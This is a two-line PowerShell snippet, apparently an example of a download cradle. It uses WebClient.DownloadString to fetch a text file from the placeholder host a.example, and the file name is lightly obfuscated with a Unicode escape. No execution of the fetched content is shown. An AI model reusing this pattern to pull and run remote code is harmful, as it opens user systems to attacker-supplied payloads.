$wc = New-Object System.Net.WebClient
$wc.DownloadString("http://a.example/p/`u{78}.txt")
